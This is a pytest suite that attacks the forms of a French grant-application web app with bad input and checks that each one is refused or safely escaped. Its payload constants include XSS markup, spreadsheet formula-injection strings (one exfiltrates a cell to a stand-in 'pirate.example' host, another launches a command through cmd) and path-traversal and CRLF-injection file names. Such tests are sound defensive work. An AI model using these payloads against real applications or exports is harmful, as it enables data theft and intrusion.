"""Bad input on every form: empty values, 10,000-character strings, wrong types (letters in
amounts and dates, negative and huge numbers, impossible dates), HTML and script in text fields,
formula text in fields that reach the Excel export, NUL bytes, path tricks in file names.

The answer is always a clear French message next to the field (with what was typed kept on the
page) or a safe value: never a server error, never raw HTML from a user in a page, never a
formula in the exported workbook.

One app and one world for the module (see factories_security); the refused posts change nothing,
and the few accepted ones (HTML in a name, a message...) touch objects no other test relies on.
"""
import html
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from markupsafe import escape

from aap.applications import files
from aap.extensions import db
from aap.models import Application, Association, Attachment, Call, Criterion, Message, Review, User

from . import factories
from . import factories_applications as fa
from . import factories_instruction as fi
from . import factories_security as fs
from . import factories_selection as fsel
from .conftest import fresh_app, login

LONG = "é" * 10_000
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
NUL = "avant\x00après"
NOT_NUMBERS = ["abc", "-5", "1e9", "99999999999999999999", "12,5.3", "NaN", "Infinity", "0x1F", "--1"]
NOT_DATES = ["2026-02-30", "31/02/2026", "demain", "0000-00-00", "2026-13-01", "99999-01-01", "1/1/1"]
FORMULAS = ['=HYPERLINK("http://pirate.example/?v="&A1,"Cliquez")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]
ENGLISH = ("This field is required", "Not a valid", "Field must", "Field cannot", "Invalid input", "Invalid email",
           "Invalid value", "Invalid Choice", "is not a valid")


# --- the world and the clients ------------------------------------------------------------------

@pytest.fixture(scope="module")
def bad_app(tmp_path_factory):
    with fresh_app(tmp_path_factory.mktemp("bad-input")) as app:
        yield app


@pytest.fixture(scope="module")
def w(bad_app):
    with bad_app.test_request_context():
        world = fs.build_world()
        # A three-year call open now: the owner's draft, two files waiting for a decision.
        open_call = factories.call(slug="aap-saisie", years=3)
        draft = fa.empty_draft(open_call, world.owner.association, world.owner)
        ranked = [fsel.file(open_call, f"Association classée {i}", status="reviewed",
                            requested_cents=60_000_00, requested_per_year=[20_000_00] * 3) for i in range(2)]
        # A file for the instruction forms, and one to withdraw.
        c_file = factories.submitted_file(world.call, fi.association("Association C", "35", "53"))
        leaver = factories.user("applicant", "d@example.org", association_name="Association D")
        factories.complete_identity(leaver.association)
        leaving = factories.application(world.call, leaver.association, status="submitted")
        # The reviewer of B's file has not scored it yet; another reviewer has not answered the conflict question.
        fsel_review_pending = world.other_application
        fi.assign(world.reviewer_assigned, world.other_application)
    return SimpleNamespace(**vars(world), open_call=open_call, draft=draft, ranked=ranked, c_file=c_file,
                           leaver=leaver, leaving=leaving, pending=fsel_review_pending)


@pytest.fixture(scope="module")
def clients(bad_app, w):
    cache = {}

    def get(persona):
        if persona not in cache:
            client = bad_app.test_client()
            user = {"leaver": w.leaver}.get(persona) or w.users[persona]
            if user is not None:
                login(client, user)
            cache[persona] = client
        return cache[persona]
    return get


def post(client, url, data, **kwargs):
    data = dict(data)
    data["csrf_token"] = client.csrf_token()
    return client.post(url, data=data, **kwargs)


def no_markup(raw):
    assert "<script>alert" not in raw and "<img src=x" not in raw, "raw HTML typed by a user is in the page"


def check_safe(response, errors=(), kept=(), statuses=(200, 400, 409, 422)):
    """A French page with the expected messages, what was typed kept, nothing raw, no server error."""
    assert response.status_code in statuses, (response.status_code, response.headers.get("Location"))
    raw = response.get_data(as_text=True)
    no_markup(raw)
    page = html.unescape(raw)
    for message in errors:
        assert message in page, f"missing message: {message}"
    for value in kept:
        value = value.replace("\x00", "")
        assert str(escape(value)) in raw or value in page, f"typed value not kept: {value[:60]!r}"
    for english in ENGLISH:
        assert english not in page, f"English message: {english}"
    if response.status_code == 200 or response.status_code >= 400:
        assert 'lang="fr"' in raw
    return page


def check_error_shown(page):
    assert "Le formulaire contient" in page or "fr-message--error" in page or "fr-error-text" in page \
        or "fr-alert--error" in page, "no error shown"


# --- accounts -----------------------------------------------------------------------------------

PASSWORD = "un-mot-de-passe-solide"
SIGNUP = {"email": "nouvelle@example.org", "password": PASSWORD, "password_confirm": PASSWORD,
          "first_name": "Nina", "last_name": "Nouvelle", "association_name": "Asso nouvelle", "accept": "y"}


@pytest.mark.parametrize("changes, errors, kept", [
    ({k: "" for k in SIGNUP}, ["Saisissez votre adresse e-mail.", "Choisissez un mot de passe.",
                               "Saisissez votre prénom.", "Saisissez votre nom.",
                               "Saisissez le nom de votre association.", "Vous devez accepter"], []),
    ({"email": "a" * 10_000 + "@example.org"}, ["L'adresse est trop longue."], []),
    ({"first_name": LONG, "last_name": LONG, "association_name": LONG}, ["100", "255"], [LONG]),
    ({"email": HTML}, ["Saisissez une adresse e-mail valide"], [HTML]),
    ({"email": "pas-une-adresse"}, ["Saisissez une adresse e-mail valide"], ["pas-une-adresse"]),
    ({"password": "court", "password_confirm": "court"}, ["au moins 12 caractères"], []),
    ({"password_confirm": "un-autre-mot-de-passe"}, ["ne sont pas identiques"], []),
    ({"password": "p" * 10_000, "password_confirm": "p" * 10_000}, ["ne peut pas dépasser 200 caractères"], []),
    ({"accept": ""}, ["Vous devez accepter"], ["Nina"]),
])
def test_signup(bad_app, changes, errors, kept):
    client = bad_app.test_client()
    before = db.session.scalar(db.select(db.func.count(User.id)))
    page = check_safe(post(client, "/inscription", {**SIGNUP, **changes}), errors, kept)
    check_error_shown(page)
    assert db.session.scalar(db.select(db.func.count(User.id))) == before


def test_signup_with_html_and_nul_in_names_is_stored_as_text(bad_app, w):
    client = bad_app.test_client()
    response = post(client, "/inscription", {**SIGNUP, "email": "balise\x00@example.org", "first_name": HTML + NUL,
                                             "last_name": NUL, "association_name": HTML})
    check_safe(response)
    user = db.session.scalar(db.select(User).where(User.email == "balise@example.org"))
    assert user is not None and user.first_name == HTML + "avantaprès" and "\x00" not in user.last_name
    staff = bad_app.test_client()
    login(staff, db.session.scalar(db.select(User).where(User.role == "staff")))
    check_safe(staff.get(f"/instruction/associations/{user.association_id}"), kept=[HTML])


@pytest.mark.parametrize("data, errors", [
    ({"email": "", "password": ""}, ["Saisissez votre adresse e-mail.", "Saisissez votre mot de passe."]),
    ({"email": "a" * 10_000 + "@example.org", "password": "x"}, ["L'adresse est trop longue."]),
    ({"email": HTML, "password": HTML}, ["Saisissez une adresse e-mail valide"]),
    ({"email": "a@example.org\x00", "password": "x" * 10_000}, ["Adresse e-mail ou mot de passe incorrect."]),
])
def test_login(bad_app, data, errors):
    kept = [data["email"]] if len(data["email"]) < 100 else []
    page = check_safe(post(bad_app.test_client(), "/connexion", data), errors, kept)
    check_error_shown(page)


@pytest.mark.parametrize("url", ["/mot-de-passe/oublie", "/inscription/nouveau-lien"])
@pytest.mark.parametrize("email, error", [
    ("", "Saisissez votre adresse e-mail."), ("a" * 10_000 + "@x.fr", "L'adresse est trop longue."),
    (HTML, "Saisissez une adresse e-mail valide"), ("@@", "Saisissez une adresse e-mail valide"),
])
def test_email_only_forms(bad_app, url, email, error):
    check_error_shown(check_safe(post(bad_app.test_client(), url, {"email": email}), [error]))


@pytest.mark.parametrize("password, confirm, error", [
    ("", "", "Choisissez un mot de passe."), ("court", "court", "au moins 12 caractères"),
    ("p" * 10_000, "p" * 10_000, "ne peut pas dépasser 200 caractères"),
    (PASSWORD, "different-mot-de-passe", "ne sont pas identiques"),
])
@pytest.mark.parametrize("link", ["reset", "invite"])
def test_password_forms_behind_a_link(bad_app, w, link, password, confirm, error):
    url = {"reset": f"/mot-de-passe/reinitialiser/{w.tokens['reset']}", "invite": f"/invitation/{w.tokens['invite']}"}
    check_error_shown(check_safe(post(bad_app.test_client(), url[link],
                                      {"password": password, "password_confirm": confirm}), [error]))


@pytest.mark.parametrize("changes, errors, kept", [
    ({"first_name": "", "last_name": "", "password": "", "password_confirm": ""},
     ["Saisissez votre prénom.", "Saisissez votre nom.", "Choisissez un mot de passe."], []),
    ({"first_name": LONG, "last_name": HTML}, ["100"], [LONG, HTML]),
    ({"password": "court", "password_confirm": "court"}, ["au moins 12 caractères"], []),
    ({"password_confirm": "pas-le-meme-mot-de-passe"}, ["ne sont pas identiques"], []),
])
def test_joining_an_association(bad_app, w, changes, errors, kept):
    data = {"first_name": "Karim", "last_name": "Membre", "password": PASSWORD, "password_confirm": PASSWORD,
            **changes}
    before = db.session.scalar(db.select(db.func.count(User.id)))
    response = post(bad_app.test_client(), f"/association/rejoindre/{w.tokens['member']}", data)
    check_error_shown(check_safe(response, errors, kept))
    assert db.session.scalar(db.select(db.func.count(User.id))) == before


@pytest.mark.parametrize("token", ["", "x" * 5000, "../../etc/passwd", "a%00b", "<script>"])
@pytest.mark.parametrize("prefix", ["/mot-de-passe/reinitialiser/", "/invitation/", "/inscription/confirmer/",
                                    "/association/rejoindre/"])
def test_forged_links(bad_app, prefix, token):
    before = fs.table_counts()
    response = bad_app.test_client().get(prefix + token)
    assert response.status_code in (302, 400, 404)
    no_markup(response.get_data(as_text=True))
    assert fs.table_counts() == before


@pytest.mark.parametrize("changes, errors, kept", [
    ({"email": ""}, ["Saisissez votre adresse e-mail."], []),
    ({"email": HTML}, ["Saisissez une adresse e-mail valide"], [HTML]),
    ({"email": "a" * 10_000 + "@x.fr"}, ["L'adresse est trop longue."], []),
    ({"first_name": LONG, "last_name": ""}, ["Saisissez le nom."], [LONG]),
    ({"role": "admin"}, ["N'est pas un choix valide."], []),     # staff may not invite an administrator
    ({"role": "superuser"}, ["N'est pas un choix valide."], []),
    ({"region_code": "../.."}, ["N'est pas un choix valide."], []),
])
def test_staff_invitation(clients, changes, errors, kept):
    data = {"email": "nouvel-evaluateur@example.org", "first_name": "Éva", "last_name": "Luatrice",
            "role": "reviewer", "region_code": "84", **changes}
    before = db.session.scalar(db.select(db.func.count(User.id)))
    page = check_safe(post(clients("staff"), "/equipe/inviter", data), errors, kept)
    check_error_shown(page)
    assert db.session.scalar(db.select(db.func.count(User.id))) == before


# --- the association ----------------------------------------------------------------------------

IDENTITY_FIELDS = ("name", "acronym", "legal_form", "rna", "siret", "address", "postal_code", "commune",
                   "departement_code", "representative_name", "representative_function", "contact_email", "phone",
                   "creation_date", "staff_count", "volunteer_count", "annual_budget")


def identity_data(association):
    from aap.associations.forms import IdentityForm
    data = {k: ("" if v is None else str(v)) for k, v in IdentityForm.initial(association).items()}
    data["legal_form"] = data.get("legal_form") or "association"
    return data


@pytest.mark.parametrize("changes, errors", [
    ({"name": ""}, ["Saisissez le nom"]),
    ({"name": LONG, "acronym": LONG, "address": LONG, "commune": LONG, "representative_name": LONG},
     ["255", "50", "120", "200"]),
    ({"siret": "abcdefghijklmn"}, ["14 chiffres"]),
    ({"siret": "73282932000075"}, ["clé de contrôle"]),
    ({"rna": "12"}, ["W suivi de 9 chiffres"]),
    ({"postal_code": "ABCDE"}, []),
    ({"postal_code": "00000"}, []),
    ({"contact_email": HTML}, ["Saisissez une adresse e-mail valide"]),
    ({"phone": "appelez-moi"}, ["numéro de téléphone valide"]),
    ({"departement_code": "../../etc"}, []),
    ({"legal_form": "société anonyme"}, []),
] + [({"creation_date": value}, []) for value in NOT_DATES + ["2999-01-01", "1700-01-01"]]
  + [({"staff_count": value, "volunteer_count": value}, []) for value in NOT_NUMBERS]
  + [({"annual_budget": value}, []) for value in NOT_NUMBERS + ["-1", "1e400", "12,345"]])
def test_association_identity(clients, w, changes, errors):
    association = db.session.get(Association, w.other.association_id)
    before = {k: getattr(association, k) for k in ("name", "siret", "rna", "creation_date", "staff_count")}
    data = {**identity_data(association), **changes}
    typed = [v for k, v in changes.items() if k not in ("legal_form", "departement_code")]
    page = check_safe(post(clients("other"), "/association", data), errors, typed[:1])
    check_error_shown(page)
    db.session.expire_all()
    association = db.session.get(Association, w.other.association_id)
    assert {k: getattr(association, k) for k in before} == before


@pytest.mark.parametrize("changes, errors", [
    ({"iban": "", "bic": "", "account_holder": ""}, ["Saisissez l'IBAN", "Saisissez le BIC", "Saisissez le titulaire"]),
    ({"iban": "FR76 ABCD"}, []), ({"iban": "FR7630006000011234567890188"}, ["clé de contrôle"]),
    ({"iban": LONG}, []), ({"bic": "12"}, ["8 ou 11 caractères"]), ({"bic": HTML}, ["8 ou 11 caractères"]),
    ({"account_holder": LONG}, ["200"]),
])
def test_bank_details(clients, w, changes, errors):
    data = {"iban": "FR1420041010050500013M02606", "bic": "AGRIFRPP", "account_holder": "Association B", **changes}
    page = check_safe(post(clients("other"), "/association/banque", data), errors,
                [v for v in changes.values() if v and v != LONG][:1])
    check_error_shown(page)
    db.session.expire_all()
    assert db.session.get(Association, w.other.association_id).iban == "FR1420041010050500013M02606"


@pytest.mark.parametrize("email, error", [
    ("", "Saisissez l'adresse e-mail de la personne à inviter."), (HTML, "Saisissez une adresse e-mail valide"),
    ("a" * 10_000 + "@x.fr", ""), ("pas une adresse", "Saisissez une adresse e-mail valide"),
])
def test_member_invitation(clients, email, error):
    check_error_shown(check_safe(post(clients("other"), "/association/membres", {"email": email}),
                                 [error] if error else []))


def test_html_in_the_association_name_is_escaped_everywhere_it_is_shown(clients, w):
    """An association named with markup: stored as typed, shown as text on every page."""
    association = db.session.get(Association, w.other.association_id)
    data = {**identity_data(association), "name": HTML + " B", "acronym": "<b>B</b>"}
    response = post(clients("other"), "/association", data)
    assert response.status_code == 302
    db.session.expire_all()
    assert db.session.get(Association, w.other.association_id).name == HTML + " B"
    pages = {"other": ["/association", "/tableau-de-bord", f"/candidatures/{w.other_application.id}",
                       "/association/banque", "/association/membres"],
             "staff": [f"/instruction/associations/{w.other.association_id}",
                       f"/instruction/appels/{w.call.id}/dossiers", f"/candidatures/{w.other_application.id}",
                       f"/instruction/appels/{w.call.id}/affectations",
                       f"/instruction/dossiers/{w.other_application.id}/evaluations"],
             "reviewer_unassigned": ["/tableau-de-bord", f"/evaluation/dossiers/{w.other_application.id}",
                                     "/evaluation/liens-d-interets?q=script"]}
    for persona, urls in pages.items():
        for url in urls:
            response = clients(persona).get(url)
            assert response.status_code == 200, (persona, url)
            raw = response.get_data(as_text=True)
            no_markup(raw)
            if "affectations" not in url:  # (a submitted file is not yet on the assignment board)
                assert "&lt;script&gt;" in raw, (persona, url)


# --- the application form ----------------------------------------------------------------------

def section(client, w, code, data, autosave=False):
    db.session.expire_all()
    draft = db.session.get(Application, w.draft.id)
    payload = {"version": str(draft.version), "action": "enregistrer", **data}
    url = f"/candidatures/{draft.id}/{code}"
    if autosave:
        return client.post(url + "/brouillon", data=payload,
                           headers={"X-CSRFToken": client.csrf_token(), "Accept": "application/json"})
    return post(client, url, payload)


SECTION_CASES = [
    ("projet", {"title": LONG}, [": 255 au maximum."]),
    ("projet", {"summary": LONG}, [": 3\u202f000 au maximum."]),
    ("projet", {"objectives": "x" * 10_001}, ["Ce texte compte 10\u202f001 caractères : 10\u202f000 au maximum."]),
] + [("projet", {"mentoring_duration_months": v}, []) for v in NOT_NUMBERS + ["3", "-6"]] + [
    ("jeunes", {"young_count": v, "mentor_count": v}, []) for v in NOT_NUMBERS + ["0"]] + [
    ("jeunes", {"share_qpv": v}, []) for v in NOT_NUMBERS + ["150", "-1", "12,555"]] + [
    ("jeunes", {"age_min": "30", "age_max": "12"},
     ["L'âge maximum doit être supérieur ou égal à l'âge minimum."]),
    ("jeunes", {"age_min": "abc", "age_max": "1000"}, []),
    ("jeunes", {"share_qpv": "84", "share_zrr": "18"},
     ["Les parts des jeunes des quartiers prioritaires et des zones rurales ne peuvent pas dépasser 100 %"]),
    ("territoires", {"scope": "galactique"}, ["Choisissez une des options proposées."]),
    ("territoires", {"scope": "regional", "departements": ["999", "../../etc", HTML]}, ["Département inconnu"]),
] + [("budget", {"budget_1_64": v, "budget_2_74_aap": v}, []) for v in NOT_NUMBERS + ["1e400", "-1", "12,345"]] + [
    ("budget", {"budget_3_87": "abc", "budget_1_60": "-5", "budget_2_61": "1e99"}, []),
    ("budget", {"budget_1_74_aap": "12 345 678 901"}, ["Le montant est trop élevé."]),
    ("attestation", {"attestation_name": LONG, "attest": "y"}, [": 200 au maximum."]),
    ("attestation", {"attestation_name": "Paul Durand"}, ["Cochez la case pour attester"]),
]


def _draft_values(w):
    from aap.applications import sections as S

    db.session.expire_all()
    draft = db.session.get(Application, w.draft.id)
    return {spec.name: S.value_of(draft, spec) for section in S.SECTIONS for spec in section.fields}


@pytest.mark.parametrize("code, data, errors", SECTION_CASES,
                         ids=[f"{c}-{'-'.join(d)}-{i}" for i, (c, d, _e) in enumerate(SECTION_CASES)])
def test_application_sections(clients, w, code, data, errors):
    from aap.applications import sections as S
    from aap.applications.forms import form_names

    before = _draft_values(w)
    client = clients("owner")
    typed = [v for k, v in data.items() if isinstance(v, str) and k not in ("attest", "scope")
             and not k.endswith("_status")]
    page = check_safe(section(client, w, code, data), errors, typed[:2])
    check_error_shown(page)
    response = section(client, w, code, data, autosave=True)
    assert response.status_code == 422
    messages = " ".join(m for ms in response.get_json()["errors"].values() for m in ms)
    for error in errors:
        assert error in messages
    assert not any(english in messages for english in ENGLISH)
    # One invalid field does not block its step (issue 14): the valid fields typed with it may be
    # saved, an invalid one never (the budget keeps its valid cells: tested with the budget).
    after = _draft_values(w)
    invalid = response.get_json()["errors"]
    for name in (n for n in before if before[n] != after[n]):
        spec = S.FIELD_BY_NAME[name]
        assert spec.kind == "budget" or not any(f in invalid for f in form_names(spec, w.draft.call)), name


@pytest.mark.parametrize("version", ["abc", "-1", "99999999999999999999", ""])
def test_application_section_with_a_forged_version(clients, w, version):
    response = section(clients("owner"), w, "projet", {"title": "Titre", "version": version})
    assert response.status_code in (200, 303, 409)
    no_markup(response.get_data(as_text=True))


def test_html_and_nul_in_the_application_are_stored_as_text_and_escaped(clients, w):
    client = clients("owner")
    response = section(client, w, "projet", {"title": HTML + NUL, "summary": HTML, "partners": FORMULAS[0]})
    assert response.status_code == 303
    db.session.expire_all()
    draft = db.session.get(Application, w.draft.id)
    assert draft.title == HTML + "avantaprès" and draft.partners == FORMULAS[0]
    for url in (f"/candidatures/{draft.id}", f"/candidatures/{draft.id}/projet",
                f"/candidatures/{draft.id}/attestation", "/tableau-de-bord"):
        response = client.get(url)
        assert response.status_code == 200, url
        raw = response.get_data(as_text=True)
        no_markup(raw)
        assert "&lt;script&gt;" in raw, url


def test_submitting_an_incomplete_application_is_refused_in_french(clients, w):
    response = post(clients("owner"), f"/candidatures/{w.draft.id}/deposer", {"attest": "y"})
    assert response.status_code == 303
    page = check_safe(clients("owner").get(response.headers["Location"]))
    assert "fr-alert--error" in page or "n'est pas complet" in page or "manque" in page
    assert db.session.get(Application, w.draft.id).status == "draft"


@pytest.mark.parametrize("reason, status", [("x" * 2001, 200), (LONG, 200)])
def test_withdrawal_reason_too_long(clients, w, reason, status):
    page = check_safe(post(clients("leaver"), f"/candidatures/{w.leaving.id}/retirer", {"reason": reason}),
                ["2000 caractères au plus."], statuses=(status, 400))
    check_error_shown(page)
    db.session.expire_all()
    assert db.session.get(Application, w.leaving.id).status == "submitted"


# --- attachments --------------------------------------------------------------------------------

def upload(client, w, name, content=fa.PDF, document=None):
    document = document or w.open_call.pieces[0]
    return client.post(f"/candidatures/{w.draft.id}/pieces/{document.id}/envoyer",
                       data={"csrf_token": client.csrf_token(), "file": (io.BytesIO(content), name)},
                       content_type="multipart/form-data")


@pytest.mark.parametrize("name", [
    "../../etc/passwd.pdf", "..\\..\\windows\\system32\\config.pdf", "/etc/passwd", "statuts\x00.exe.pdf",
    "x" * 1000 + ".pdf", "....//....//statuts.pdf", HTML + ".pdf", ".htaccess", "..", "C:\\temp\\statuts.pdf",
    "statuts%0D%0AContent-Type: text/html.pdf", "ré\u202esumé\u202c.pdf", "%2e%2e%2fstatuts.pdf",
])
def test_path_tricks_in_file_names_give_a_safe_name(bad_app, clients, w, name):
    client = clients("owner")
    response = upload(client, w, name)
    assert response.status_code == 303, response.status_code
    db.session.expire_all()
    document = w.open_call.pieces[0]
    attachment = db.session.scalar(db.select(Attachment).where(Attachment.application_id == w.draft.id,
                                                              Attachment.document_id == document.id))
    shown = attachment.original_name
    assert shown and len(shown) <= 200
    assert not set(shown) & set('/\\\x00\r\n<>:"|?*') and not shown.startswith(".")
    assert re.fullmatch(r"[0-9a-f]{32}", attachment.stored_name)
    stored = files.path_of(attachment.stored_name)
    assert stored.parent == Path(bad_app.config["UPLOAD_FOLDER"]) and stored.read_bytes() == fa.PDF
    instance = Path(bad_app.instance_path).parent
    assert not list(instance.rglob("passwd*")) and not list(instance.rglob("config.pdf"))
    assert not (Path("/etc") / "passwd.pdf").exists()
    page = check_safe(client.get(f"/candidatures/{w.draft.id}/pieces"))
    assert shown in page
    download = client.get(f"/candidatures/{w.draft.id}/pieces/{attachment.id}")
    assert download.status_code == 200 and download.data == fa.PDF
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "\r" not in disposition and "\n" not in disposition
    assert "/" not in disposition.split("filename", 1)[1].replace("filename*=UTF-8''", "")


def test_a_line_break_in_a_file_name_is_refused_in_french(clients, w):
    """(What a forged multipart part with a CR LF in its file name gives; browsers send %0D%0A.)"""
    response = upload(clients("owner"), w, "statuts\r\nContent-Type: text/html.pdf")
    if response.status_code == 400:
        check_safe(response, ["Choisissez un fichier à envoyer."], statuses=(400,))
    else:
        assert response.status_code == 303


@pytest.mark.parametrize("name, content, error", [
    ("rapport.pdf", fa.EXE, "n'est pas"),
    ("rapport.pdf", b"", ""),
    ("rapport.pdf", b"%PDF", ""),
    ("", fa.PDF, "Choisissez un fichier à envoyer."),
    ("image.png", HTML.encode(), ""),
    ("archive.docx", fa.zipped({"../../evil.txt": "x"}), ""),
])
def test_refused_files_get_a_french_message(clients, w, name, content, error):
    document = w.open_call.pieces[1]
    before = db.session.scalar(db.select(db.func.count(Attachment.id)).where(Attachment.document_id == document.id,
                                                                         Attachment.application_id == w.draft.id))
    response = upload(clients("owner"), w, name, content, document)
    page = check_safe(response, [error] if error else [], statuses=(400,))
    assert "fr-message--error" in response.get_data(as_text=True) or "fr-error" in response.get_data(as_text=True)
    assert db.session.scalar(db.select(db.func.count(Attachment.id)).where(
        Attachment.document_id == document.id, Attachment.application_id == w.draft.id)) == before
    assert page


def test_upload_without_any_file_field(clients, w):
    client = clients("owner")
    document = w.open_call.pieces[1]
    response = post(client, f"/candidatures/{w.draft.id}/pieces/{document.id}/envoyer", {"file": "pas un fichier"})
    check_safe(response, ["Choisissez un fichier à envoyer."], statuses=(400,))


# --- instruction --------------------------------------------------------------------------------

@pytest.mark.parametrize("reason, error", [
    ("", "Indiquez le motif d'irrecevabilité"), ("   ", "Indiquez le motif d'irrecevabilité"),
    (LONG, "Le motif ne doit pas dépasser"),
])
def test_inadmissibility_reason(clients, w, reason, error):
    response = post(clients("staff"), f"/instruction/dossiers/{w.c_file.id}/irrecevable",
                    {"inadmissible_reason": reason})
    check_error_shown(check_safe(response, [error], [reason] if reason.strip() else []))
    db.session.expire_all()
    assert db.session.get(Application, w.c_file.id).status == "submitted"


@pytest.mark.parametrize("changes, errors", [
    ({"piece_items": [], "piece_message": "", "piece_due_date": ""},
     ["Cochez au moins une partie", "Rédigez un message", "Indiquez une date limite valide"]),
    ({"piece_items": ["doc:999999", "../../etc", HTML]}, ["n'existe pas pour cet appel à projets"]),
    ({"piece_message": LONG}, ["Le message ne doit pas dépasser"]),
    ({"piece_due_date": "2020-01-01"}, ["La date limite de réponse doit être dans le futur."]),
] + [({"piece_due_date": value}, ["Indiquez une date limite valide"]) for value in NOT_DATES])
def test_request_for_pieces(clients, w, changes, errors):
    data = {"piece_items": ["budget"], "piece_message": "Merci de compléter.", "piece_due_date": "2099-01-01",
            **changes}
    response = post(clients("staff"), f"/instruction/dossiers/{w.c_file.id}/demande-pieces", data)
    check_error_shown(check_safe(response, errors))
    db.session.expire_all()
    assert db.session.get(Application, w.c_file.id).status == "submitted"


@pytest.mark.parametrize("persona", ["staff", "owner"])
@pytest.mark.parametrize("body, error", [("", "Écrivez votre message."), ("   ", "Écrivez votre message."),
                                         (LONG, "Le message ne doit pas dépasser")])
def test_messages_refused(clients, w, persona, body, error):
    before = db.session.scalar(db.select(db.func.count(Message.id)))
    response = post(clients(persona), f"/dossiers/{w.application.id}/messages", {"message_body": body})
    check_error_shown(check_safe(response, [error], [body] if body.strip() else []))
    assert db.session.scalar(db.select(db.func.count(Message.id))) == before


def test_html_in_a_message_is_shown_as_text(clients, w):
    response = post(clients("staff"), f"/dossiers/{w.c_file.id}/messages", {"message_body": HTML + "\n" + NUL})
    assert response.status_code == 302
    for persona in ("staff",):
        raw = clients(persona).get(f"/candidatures/{w.c_file.id}").get_data(as_text=True)
        no_markup(raw)
        assert "&lt;script&gt;" in raw


# --- calls --------------------------------------------------------------------------------------

CALL = {"title": "Appel de test", "slug": "appel-de-test", "description": "Présentation",
        "opens_date": "2027-01-01", "opens_time": "09:00", "closes_date": "2027-03-01", "closes_time": "23:59",
        "review_deadline": "", "budget": "1 000 000", "min_amount": "10 000", "max_amount": "150 000", "years": "1",
        "reviewers_per_file": "2", "advance_percent": "50"}

CALL_CASES = [
    ({k: "" for k in CALL}, ["Saisissez le titre de l'appel à projets.", "Saisissez la date d'ouverture."]),
    ({"title": LONG}, ["255"]),
    ({"description": "x" * 50_001}, ["50 000 caractères"]),
    ({"slug": "../../etc/passwd"}, []), ({"slug": "avec des espaces"}, []), ({"slug": LONG}, []),
    ({"slug": HTML}, []),
    ({"opens_time": "25:99", "closes_time": "abc"}, ["Saisissez une heure valide"]),
    ({"opens_date": "2027-03-02"}, []),                 # closes before it opens
    ({"min_amount": "200 000"}, []),                    # min above max
    ({"years": "abc"}, []), ({"years": "7"}, []), ({"years": "-1"}, []),
] + [({"opens_date": v, "closes_date": v, "review_deadline": v}, ["Saisissez une date valide"]) for v in NOT_DATES] \
  + [({"budget": v, "min_amount": v, "max_amount": v}, []) for v in NOT_NUMBERS + ["1e400", "-1"]] \
  + [({"reviewers_per_file": v, "advance_percent": v}, []) for v in NOT_NUMBERS + ["-1", "101", "2147483648"]]


@pytest.mark.parametrize("changes, errors", CALL_CASES,
                         ids=[f"{'-'.join(c)}-{i}" for i, (c, _e) in enumerate(CALL_CASES)])
def test_new_call(clients, changes, errors):
    before = db.session.scalar(db.select(db.func.count(Call.id)))
    data = {**CALL, **changes}
    page = check_safe(post(clients("staff"), "/instruction/appels/nouveau", data), errors,
                [v for k, v in changes.items() if v and k != "years"][:1])
    check_error_shown(page)
    assert db.session.scalar(db.select(db.func.count(Call.id))) == before


@pytest.mark.parametrize("changes, errors", CALL_CASES[:8], ids=[str(i) for i in range(8)])
def test_edit_call(clients, w, changes, errors):
    title = db.session.get(Call, w.draft_call.id).title
    page = check_safe(post(clients("staff"), f"/instruction/appels/{w.draft_call.id}", {**CALL, **changes}), errors)
    check_error_shown(page)
    db.session.expire_all()
    assert db.session.get(Call, w.draft_call.id).title == title


def criteria_data(call, **changes):
    data = {}
    for i, criterion in enumerate(call.criteria):
        data.update({f"criteria-{i}-id": str(criterion.id), f"criteria-{i}-label": criterion.label,
                     f"criteria-{i}-description": criterion.description or "",
                     f"criteria-{i}-weight": str(criterion.weight),
                     f"criteria-{i}-scale_max": str(criterion.scale_max)})
    data.update({f"criteria-0-{k}": v for k, v in changes.items()})
    return data


@pytest.mark.parametrize("changes", [
    {"label": ""}, {"label": LONG}, {"id": "abc"}, {"id": "999999"}, {"id": "²"}, {"id": "9" * 5000},
] + [{"weight": v} for v in NOT_NUMBERS + ["0", "1e400", "101"]]
  + [{"scale_max": v} for v in NOT_NUMBERS + ["0", "1000"]])
def test_criteria(clients, w, changes):
    call = db.session.get(Call, w.draft_call.id)
    before = [(c.id, c.label, c.weight, c.scale_max) for c in call.criteria]
    page = check_safe(post(clients("staff"), f"/instruction/appels/{call.id}/criteres", criteria_data(call, **changes)))
    check_error_shown(page)
    db.session.expire_all()
    assert [(c.id, c.label, c.weight, c.scale_max) for c in db.session.get(Call, w.draft_call.id).criteria] == before


@pytest.mark.parametrize("changes, error", [
    ({"label": ""}, "Saisissez l'intitulé de la pièce."), ({"label": LONG}, "200 caractères"),
    ({"formats": ["exe", "../"]}, "Cochez au moins un format accepté."), ({"id": "abc"}, ""),
    ({"id": "999999"}, "n'ont pas été enregistrées"), ({"id": "9" * 5000}, "n'ont pas été enregistrées"),
])
def test_required_documents(clients, w, changes, error):
    call = db.session.get(Call, w.draft_call.id)
    before = [(d.id, d.label) for d in call.pieces]
    data = {}
    for i, document in enumerate(call.pieces):
        data.update({f"documents-{i}-id": str(document.id), f"documents-{i}-label": document.label,
                     f"documents-{i}-formats": document.formats.split(",")})
        if document.mandatory:
            data[f"documents-{i}-mandatory"] = "y"
    data.update({f"documents-0-{k}": v for k, v in changes.items()})
    page = check_safe(post(clients("staff"), f"/instruction/appels/{call.id}/pieces", data), [error] if error else [])
    check_error_shown(page)
    db.session.expire_all()
    assert [(d.id, d.label) for d in db.session.get(Call, w.draft_call.id).pieces] == before


# --- review -------------------------------------------------------------------------------------

def review_data(call, score="3", criterion_comment="Bien", **changes):
    data = {"recommendation": "favorable", "proposed_amount": "", "comment": "", "action": "save"}
    for criterion in call.criteria:
        data[f"score_{criterion.id}"] = score
        data[f"comment_{criterion.id}"] = criterion_comment
    data.update(changes)
    return data


@pytest.mark.parametrize("changes, errors", [
    ({"recommendation": "génial"}, ["Choisissez favorable, réservé ou défavorable."]),
    ({"comment": "x" * 10_001}, ["Le texte est trop long."]),
] + [({"proposed_amount": v}, []) for v in NOT_NUMBERS + ["1e400"]])
def test_review_form(clients, w, changes, errors):
    call = w.call
    response = post(clients("reviewer_unassigned"), f"/evaluation/dossiers/{w.other_application.id}",
                    review_data(call, **changes))
    check_error_shown(check_safe(response, errors))
    assert db.session.scalar(db.select(Review).where(Review.application_id == w.other_application.id,
                                                     Review.reviewer_id == w.reviewer_unassigned.id)) is None


